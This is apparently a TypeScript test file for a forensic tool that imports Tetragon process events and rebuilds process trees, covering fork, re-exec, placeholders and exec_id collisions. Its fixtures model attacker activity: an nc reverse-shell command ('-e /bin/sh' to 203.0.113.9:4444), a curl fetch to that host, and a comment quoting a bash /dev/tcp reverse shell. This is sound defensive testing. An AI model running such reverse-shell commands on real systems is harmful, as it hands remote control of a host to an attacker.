import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { execIdFor, type ProcessTree, type TetragonProcess } from '@proctrail/schema';
import type { ImportSummary } from './importer';
import { jsonOf, runCli, scratchDir } from '../testing/harness';

/*
 * Hand-made events, one tree rule each (reference notes §1.6–1.9). They are written the way
 * Tetragon writes them: protojson names, exec_ids from the base64 recipe, RFC 3339 times.
 */

type ImportReport = ImportSummary & {
  database: { events: number; executions: number; placeholders: number; unattributed: number };
};

const scratch = scratchDir();
after(() => scratch.remove());

const NODE = 'host-a';
let fileCount = 0;

function at(second: number): string {
  return `2026-03-01T10:00:${String(second).padStart(2, '0')}.000000001Z`;
}

function proc(
  pid: number,
  ktime: bigint,
  binary: string,
  fields: Partial<TetragonProcess> = {},
): TetragonProcess {
  return {
    exec_id: execIdFor(NODE, ktime, pid),
    pid,
    uid: 0,
    binary,
    flags: 'execve clone',
    start_time: at(Number(ktime % 60n)),
    ...fields,
  };
}

function exec(process: TetragonProcess, parent?: TetragonProcess, time = process.start_time!) {
  return { process_exec: { process, ...(parent ? { parent } : {}) }, node_name: NODE, time };
}

function exit(
  process: TetragonProcess,
  parent: TetragonProcess | undefined,
  time: string,
  outcome: { status?: number; signal?: string } = {},
) {
  return {
    process_exit: { process, ...(parent ? { parent } : {}), ...outcome, time },
    node_name: NODE,
    time,
  };
}

function kprobe(process: TetragonProcess, parent: TetragonProcess | undefined, time: string) {
  return {
    process_kprobe: {
      process,
      ...(parent ? { parent } : {}),
      function_name: 'tcp_connect',
      args: [
        {
          sock_arg: {
            family: 'AF_INET',
            protocol: 'IPPROTO_TCP',
            saddr: '10.0.0.5',
            sport: 40000,
            daddr: '203.0.113.9',
            dport: 4444,
          },
        },
      ],
    },
    node_name: NODE,
    time,
  };
}

function writeEvents(events: unknown[]): string {
  const file = join(scratch.dir, `events-${++fileCount}.jsonl`);
  writeFileSync(file, events.map((e) => JSON.stringify(e)).join('\n') + '\n');
  return file;
}

async function importEvents(
  db: string,
  events: unknown[],
  extra: string[] = [],
): Promise<ImportReport> {
  const run = await runCli(['import', writeEvents(events), '--db', db, '--json', ...extra]);
  assert.equal(run.code, 0, run.stderr);
  return jsonOf<ImportReport>(run);
}

async function treeOf(db: string, execId: string, extra: string[] = []): Promise<ProcessTree> {
  const run = await runCli(['tree', execId, '--db', db, '--json', ...extra]);
  assert.equal(run.code, 0, run.stderr);
  return jsonOf<ProcessTree>(run);
}

const init = proc(1, 100n, '/sbin/init', { flags: 'procFS auid rootcwd' });
const sshd = proc(900, 200n, '/usr/sbin/sshd', {
  flags: 'procFS auid',
  parent_exec_id: init.exec_id!,
});
const bash = proc(1000, 1001n, '/bin/bash', { parent_exec_id: sshd.exec_id! });
const ls = proc(1001, 1002n, '/bin/ls', { arguments: '-la /tmp', parent_exec_id: bash.exec_id! });

describe('exec with fork', () => {
  test('a child exec with the clone flag hangs under its parent as fork+exec', async () => {
    const db = scratch.db('fork-exec.db');
    await importEvents(db, [exec(bash, sshd), exec(ls, bash)]);
    const tree = await treeOf(db, bash.exec_id!);
    assert.equal(tree.process.relation, 'fork+exec');
    assert.deepEqual(
      tree.children.map((c) => [c.exec_id, c.binary, c.relation, c.placeholder]),
      [[ls.exec_id, '/bin/ls', 'fork+exec', false]],
    );
    assert.deepEqual(
      tree.ancestors.map((a) => [a.binary, a.relation]),
      [
        [undefined, 'unknown'],
        ['/usr/sbin/sshd', 'procfs'],
      ],
    );
  });
});

describe('exec without fork', () => {
  test('an exec in the same pid without clone is the child of the previous image', async () => {
    const db = scratch.db('re-exec.db');
    const curl = proc(1000, 1005n, '/usr/bin/curl', {
      arguments: 'http://203.0.113.9/x',
      flags: 'execve',
      parent_exec_id: bash.exec_id!,
    });
    await importEvents(db, [exec(bash, sshd), exec(curl, bash)]);
    const tree = await treeOf(db, curl.exec_id!);
    assert.equal(tree.process.relation, 're-exec');
    assert.equal(tree.process.pid, 1000);
    assert.deepEqual(
      [tree.ancestors.at(-1)!.exec_id, tree.ancestors.at(-1)!.pid],
      [bash.exec_id, 1000],
    );
    const fromBash = await treeOf(db, bash.exec_id!);
    assert.deepEqual(
      fromBash.children.map((c) => [c.binary, c.relation]),
      [['/usr/bin/curl', 're-exec']],
    );
  });

  test('the image an exec replaced ends then, with neither status nor signal', async () => {
    const db = scratch.db('replaced.db');
    const curl = proc(1000, 1005n, '/usr/bin/curl', {
      flags: 'execve',
      parent_exec_id: bash.exec_id!,
    });
    const child = proc(1002, 1003n, '/bin/ls', { parent_exec_id: bash.exec_id! });
    await importEvents(db, [exec(bash, sshd), exec(child, bash), exec(curl, bash)]);
    const tree = await treeOf(db, curl.exec_id!);
    const replaced = tree.ancestors.at(-1)!;
    assert.equal(replaced.exec_id, bash.exec_id);
    assert.ok(replaced.exit?.time, 'the replaced image has an end time');
    assert.equal(replaced.exit?.status, undefined);
    assert.equal(replaced.exit?.signal, undefined);
    assert.equal(tree.process.exit, undefined, 'the new image is still running');
    const forkOnly = scratch.db('forked-child.db');
    await importEvents(forkOnly, [exec(bash, sshd), exec(child, bash)]);
    const parent = await treeOf(forkOnly, bash.exec_id!);
    assert.equal(parent.process.exit, undefined, 'a forked child does not end its parent');
    const text = await runCli(['tree', curl.exec_id!, '--db', db]);
    assert.match(text.stdout, /\/bin\/bash .*replaced by exec/);
  });
});

describe('fork without exec', () => {
  test('a child first seen in its exit, with the parent binary, is fork-only', async () => {
    const db = scratch.db('fork-only.db');
    const forked = proc(1010, 1010n, '/bin/bash', {
      flags: 'execve',
      parent_exec_id: bash.exec_id!,
    });
    await importEvents(db, [exec(bash, sshd), exit(forked, bash, at(30), { status: 1 })]);
    const tree = await treeOf(db, forked.exec_id!);
    assert.equal(tree.process.relation, 'fork-only');
    assert.equal(tree.process.placeholder, false);
    assert.deepEqual(tree.process.exit, { time: at(30), status: 1 });
  });

  test('a child first seen in a kprobe is fork-only and owns the connection', async () => {
    const db = scratch.db('fork-only-kprobe.db');
    const forked = proc(1011, 1011n, '/bin/bash', {
      flags: 'execve',
      parent_exec_id: bash.exec_id!,
    });
    await importEvents(db, [exec(bash, sshd), kprobe(forked, bash, at(31))]);
    const tree = await treeOf(db, bash.exec_id!);
    assert.deepEqual(
      tree.children.map((c) => [c.pid, c.relation, c.network.map((e) => e.dport)]),
      [[1011, 'fork-only', [4444]]],
    );
  });
  test('the exec that follows ends the fork, which keeps the connection it made', async () => {
    // bash -c 'bash -i >& /dev/tcp/...': the fork connects, then execs bash -i in its pid.
    const db = scratch.db('fork-then-exec.db');
    const forked = proc(1012, 1012n, '/bin/bash', {
      flags: 'execve',
      parent_exec_id: bash.exec_id!,
    });
    const interactive = proc(1012, 1013n, '/bin/bash', {
      arguments: '-i',
      parent_exec_id: bash.exec_id!,
    });
    const other = proc(1014, 1014n, '/bin/bash', {
      flags: 'execve',
      parent_exec_id: bash.exec_id!,
    });
    await importEvents(db, [
      exec(bash, sshd),
      kprobe(forked, bash, at(31)),
      kprobe(other, bash, at(31)),
      exec(interactive, bash, at(32)),
    ]);
    const tree = await treeOf(db, bash.exec_id!);
    const byExecId = new Map(tree.children.map((c) => [c.exec_id, c]));
    const fork = byExecId.get(forked.exec_id!)!;
    assert.equal(fork.relation, 'fork-only');
    assert.deepEqual(fork.exit, { time: at(32) }, 'replaced by the exec, when it happened');
    assert.deepEqual(
      fork.network.map((e) => e.dport),
      [4444],
    );
    assert.equal(byExecId.get(interactive.exec_id!)!.exit, undefined, 'bash -i runs on');
    assert.equal(byExecId.get(other.exec_id!)!.exit, undefined, 'another pid is left alone');
  });
});

describe('procFS processes', () => {
  test('a process found by the /proc scan is a procfs node', async () => {
    const db = scratch.db('procfs.db');
    await importEvents(db, [exec(sshd, init)]);
    const tree = await treeOf(db, sshd.exec_id!);
    assert.equal(tree.process.relation, 'procfs');
    assert.equal(tree.process.placeholder, false);
    assert.deepEqual(
      tree.ancestors.map((a) => [a.exec_id, a.binary, a.placeholder]),
      [[init.exec_id, '/sbin/init', true]],
    );
  });
});

describe('parents never seen', () => {
  test('a parent and ancestors named only inside an event become placeholders', async () => {
    const db = scratch.db('placeholders.db');
    const event = exec(ls, bash);
    const withAncestors = {
      ...event,
      process_exec: { ...event.process_exec, ancestors: [sshd, init] },
    };
    const report = await importEvents(db, [withAncestors]);
    assert.equal(report.database.executions, 4);
    assert.equal(report.database.placeholders, 3);
    const tree = await treeOf(db, ls.exec_id!);
    assert.deepEqual(
      tree.ancestors.map((a) => [a.exec_id, a.binary, a.pid, a.placeholder]),
      [
        [init.exec_id, '/sbin/init', 1, true],
        [sshd.exec_id, '/usr/sbin/sshd', 900, true],
        [bash.exec_id, '/bin/bash', 1000, true],
      ],
    );
    assert.equal(tree.process.placeholder, false);
  });

  test('a parent_exec_id that nothing describes is an unknown placeholder', async () => {
    const db = scratch.db('unknown-parent.db');
    const orphan = proc(2000, 2000n, '/usr/bin/python3', {
      parent_exec_id: execIdFor(NODE, 0n, 1999),
    });
    await importEvents(db, [exec(orphan)]);
    const tree = await treeOf(db, orphan.exec_id!);
    assert.deepEqual(tree.ancestors, [
      {
        exec_id: execIdFor(NODE, 0n, 1999),
        source: 'import',
        placeholder: true,
        relation: 'unknown',
        network: [],
        files: [],
      },
    ]);
    const text = await runCli(['tree', orphan.exec_id!, '--db', db]);
    assert.match(text.stdout, /unknown process, never seen; exec_id /);
  });

  test('the <kernel> process, its own parent, ends the ancestry instead of looping', async () => {
    const db = scratch.db('kernel.db');
    const kernel = proc(0, 1n, '<kernel>', { flags: 'procFS', start_time: at(0) });
    kernel.parent_exec_id = kernel.exec_id!;
    const helper = proc(3000, 3000n, '/sbin/modprobe', { parent_exec_id: kernel.exec_id! });
    await importEvents(db, [exec(kernel), exec(helper, kernel)]);
    const tree = await treeOf(db, helper.exec_id!);
    assert.equal(tree.ancestryTruncated, false);
    assert.deepEqual(
      tree.ancestors.map((a) => [a.binary, a.relation]),
      [['<kernel>', 'root']],
    );
    const root = await treeOf(db, kernel.exec_id!);
    assert.deepEqual(root.ancestors, []);
    assert.deepEqual(
      root.children.map((c) => c.binary),
      ['/sbin/modprobe'],
    );
  });
});

describe('events without an exec_id', () => {
  test('an event whose process has an empty exec_id is kept and counted unattributed', async () => {
    const db = scratch.db('no-exec-id.db');
    const nameless = { pid: 4000, binary: '/tmp/x', exec_id: '', start_time: at(40) };
    const report = await importEvents(db, [kprobe(nameless, undefined, at(41))]);
    assert.equal(report.stored, 1);
    assert.equal(report.unattributed, 1);
    assert.equal(report.database.unattributed, 1);
    assert.equal(report.database.executions, 0);
    const exported = await runCli(['export', '--db', db]);
    assert.equal(exported.stdout.trim().split('\n').length, 1);
  });

  test('an exit without exec_id but with a matching pid and start time is attributed', async () => {
    const db = scratch.db('attribute.db');
    // 4 ms after the start time of the exec: within the 10 ms of /proc start times.
    const anonymous = { pid: ls.pid, start_time: '2026-03-01T10:00:42.004Z' };
    const report = await importEvents(db, [
      exec(ls, bash),
      exit(anonymous, undefined, at(50), { signal: 'SIGKILL' }),
    ]);
    assert.equal(report.attributedLater, 1);
    assert.equal(report.unattributed, 0);
    assert.equal(report.database.unattributed, 0);
    const tree = await treeOf(db, ls.exec_id!);
    assert.deepEqual(tree.process.exit, { time: at(50), status: 0, signal: 'SIGKILL' });
  });

  test('an exit without exec_id imported before its exec is attributed by the later import', async () => {
    const db = scratch.db('attribute-later.db');
    const anonymous = { pid: ls.pid, start_time: ls.start_time! };
    const first = await importEvents(db, [exit(anonymous, undefined, at(50), { status: 2 })]);
    assert.equal(first.unattributed, 1);
    const second = await importEvents(db, [exec(ls, bash)]);
    assert.equal(second.attributedLater, 1);
    assert.equal(second.unattributed, 0);
    assert.equal(second.database.unattributed, 0);
    assert.equal((await treeOf(db, ls.exec_id!)).process.exit?.status, 2);
  });

  test('an exit whose start time is more than 10 ms away stays unattributed', async () => {
    const db = scratch.db('attribute-far.db');
    const anonymous = { pid: ls.pid, start_time: '2026-03-01T10:00:42.020Z' };
    const report = await importEvents(db, [exec(ls, bash), exit(anonymous, undefined, at(50))]);
    assert.equal(report.attributedLater, 0);
    assert.equal(report.database.unattributed, 1);
    assert.equal((await treeOf(db, ls.exec_id!)).process.exit, undefined);
  });
});

describe('events out of causal order', () => {
  const causal = [
    exec(bash, sshd),
    exec(ls, bash),
    kprobe(ls, bash, at(20)),
    exit(ls, bash, at(21), { status: 3, signal: 'SIGTERM' }),
  ];

  test('an exit and a kprobe before their exec give the same tree as causal order', async () => {
    const inOrder = scratch.db('causal.db');
    const reversed = scratch.db('reversed.db');
    await importEvents(inOrder, causal);
    await importEvents(reversed, [...causal].reverse());
    for (const execId of [bash.exec_id!, ls.exec_id!, sshd.exec_id!]) {
      assert.deepEqual(await treeOf(reversed, execId), await treeOf(inOrder, execId));
    }
  });

  test("the exit's status and signal survive the exec that arrives later", async () => {
    const db = scratch.db('exit-first.db');
    await importEvents(db, [causal[3], causal[2]]);
    await importEvents(db, [causal[1], causal[0]]);
    const tree = await treeOf(db, ls.exec_id!);
    assert.deepEqual(tree.process.exit, { time: at(21), status: 3, signal: 'SIGTERM' });
    assert.equal(tree.process.relation, 'fork+exec');
    assert.equal(tree.process.arguments, '-la /tmp');
    assert.equal(tree.process.network.length, 1);
  });
});

describe('sources and exec_id collisions', () => {
  const other = { ...ls, binary: '/usr/bin/nc', arguments: '-e /bin/sh 203.0.113.9 4444' };

  test('one node name on two hosts stays apart under two --source names', async () => {
    const db = scratch.db('two-hosts.db');
    await importEvents(db, [exec(ls, bash)], ['--source', 'host-a-monday']);
    await importEvents(db, [exec(other, bash)], ['--source', 'host-a-tuesday']);
    const ambiguous = await runCli(['tree', ls.exec_id!, '--db', db]);
    assert.equal(ambiguous.code, 1);
    assert.match(ambiguous.stderr, /several sources \(host-a-monday, host-a-tuesday\).*--source/);
    const monday = await treeOf(db, ls.exec_id!, ['--source', 'host-a-monday']);
    const tuesday = await treeOf(db, ls.exec_id!, ['--source', 'host-a-tuesday']);
    assert.equal(monday.process.binary, '/bin/ls');
    assert.equal(tuesday.process.binary, '/usr/bin/nc');
    assert.equal(tuesday.process.source, 'host-a-tuesday');
  });

  test('two different exec events with one exec_id in one source are a collision', async () => {
    const db = scratch.db('collision.db');
    const report = await importEvents(db, [exec(ls, bash), exec(other, bash)]);
    assert.deepEqual(report.collisions, [ls.exec_id]);
    const repeated = await runCli(['import', writeEvents([exec(ls, bash)]), '--db', db]);
    assert.doesNotMatch(repeated.stdout, /warning/, 'a repeated event is not a collision');
  });

  test('a third different exec event for a colliding exec_id is reported again', async () => {
    const db = scratch.db('collision-again.db');
    await importEvents(db, [exec(ls, bash), exec(other, bash)]);
    const third = exec({ ...ls, arguments: '-l' }, bash);
    const again = await runCli(['import', writeEvents([third]), '--db', db]);
    assert.match(again.stdout, /warning: 1 exec_ids were named by two different exec events/);
  });
});
